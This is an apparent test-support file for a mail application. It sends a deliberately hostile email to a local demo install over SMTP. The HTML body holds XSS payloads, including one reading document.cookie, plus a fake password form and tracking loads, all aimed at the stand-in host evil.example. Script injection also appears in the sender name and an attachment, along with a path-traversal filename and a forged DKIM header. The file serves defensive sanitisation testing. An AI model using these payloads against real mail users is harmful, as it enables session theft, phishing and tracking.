"""People who write to the account of a demo installation: what they send comes in by SMTP, and none of it is meant well."""

from __future__ import annotations

import smtplib
from email.message import EmailMessage
from email.policy import SMTP

from tests.support.dns_server import DnsServer
from tests.support.installation import Installation

SENDER, DOMAIN = "stranger@letters.example", "letters.example"
SUBJECT = "Where is my order? " + "<b>Urgent</b> " * 3
# Each of these would be seen: in the console, as a request to another host, or as an alert.
HOSTILE = """\
<!doctype html><html><head><title>x</title><meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
<style>@import url(https://evil.example/b.css); body { background: url(https://evil.example/c.png) }</style></head>
<body onload="parent.document.title = 'owned'"><h1>Where is my order?</h1><p>I paid on Monday, and nothing came.</p>
<img src="https://evil.example/pixel.gif" alt="" onerror="alert(1)"><script>alert(document.cookie)</script>
<form action="https://evil.example/login"><input name="password" placeholder="Password"><button>Sign in again</button></form>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/o"></object>
<p><a href="javascript:alert(1)">Track the parcel</a> <a href="https://shop.example/orders/17" target="_top">Order 17</a></p>
<div style="position:fixed;inset:0 0 auto;width:3000px">A line that is wider than any window</div></body></html>
"""
TEXT = """\
Where is my order? I paid on Monday, and nothing came.
https://shop.example/orders/17?a=%s

On Mon, Nov 23, 2026 at 9:00 AM Acme <hello@acme.example> wrote:
> Your order is on its way.
"""
SIGNATURE = "v=1; a=rsa-sha256; c=relaxed/relaxed; d=letters.example; s=gone; h=from:subject; bh=AAAA; b=AAAA"


def publish_stranger(dns: DnsServer) -> None:
    """The domain vouches for this machine, and its signatures have no key."""
    dns.publish(DOMAIN, "TXT", "v=spf1 ip4:127.0.0.1 -all")
    dns.publish(f"_dmarc.{DOMAIN}", "TXT", "v=DMARC1; p=reject")


def write_letter(installation: Installation, address: str) -> None:
    """Hand it to the listener for incoming mail; it is kept when this returns."""
    message = EmailMessage(policy=SMTP)
    message["DKIM-Signature"] = SIGNATURE
    message["From"], message["To"] = f'"Stranger <script>alert(1)</script>" <{SENDER}>', address
    message["Subject"], message["Message-ID"] = SUBJECT, "<letter@letters.example>"
    message.set_content(TEXT % ("long" * 60))
    message.add_alternative(HOSTILE, subtype="html")
    message.add_attachment(b"%PDF-1.7", maintype="application", subtype="pdf", filename="../../etc/bill.pdf")
    message.add_attachment("<script>alert(1)</script>", subtype="html", filename="Счёт " + "ж" * 90 + ".html")
    message.add_attachment(b"GIF89a", maintype="image", subtype="gif")
    port = int(installation.environment["DYNAMAIL_REPORTS_PORT"])
    with smtplib.SMTP("127.0.0.1", port, timeout=30) as client:
        client.send_message(message, from_addr=SENDER, to_addrs=[address])
